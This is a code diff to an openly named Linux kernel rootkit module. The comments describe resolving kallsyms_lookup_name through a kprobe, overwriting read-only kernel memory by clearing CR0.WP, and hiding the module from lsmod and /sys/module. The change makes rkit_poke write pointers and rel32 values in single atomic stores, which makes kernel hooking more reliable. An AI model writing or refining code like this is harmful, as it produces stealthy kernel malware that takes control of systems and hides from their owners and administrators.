@@ -4,7 +4,8 @@
  * read-only kernel memory, hide the module and link it back.
  *
  * rkit_lookup(name): kallsyms_lookup_name, itself found with a kprobe.
- * rkit_poke(dst, src, len): a copy with CR0.WP cleared, interrupts off.
+ * rkit_poke(dst, src, len): a copy with CR0.WP cleared, interrupts off (4 or
+ * 8 bytes in one store).
  * rkit_hide(): unlink THIS_MODULE from the modules list (what lsmod reads)
  * and delete its kobject (/sys/module, module_kset's list); its memory
  * stays in mod_tree.  rkit_unhide(): link it back into both lists (not
@@ -49,7 +50,12 @@ static void __maybe_unused rkit_poke(void *dst, const void *src, size_t len)
 	local_irq_save(flags);
 	cr0 = read_cr0();
 	rkit_cr0_write(cr0 & ~X86_CR0_WP);
-	memcpy(dst, src, len);
+	if (len == 8)		/* a pointer, a gate half: one store */
+		WRITE_ONCE(*(u64 *)dst, *(const u64 *)src);
+	else if (len == 4)	/* a rel32 */
+		WRITE_ONCE(*(u32 *)dst, *(const u32 *)src);
+	else
+		memcpy(dst, src, len);
 	rkit_cr0_write(cr0);
 	local_irq_restore(flags);
 }
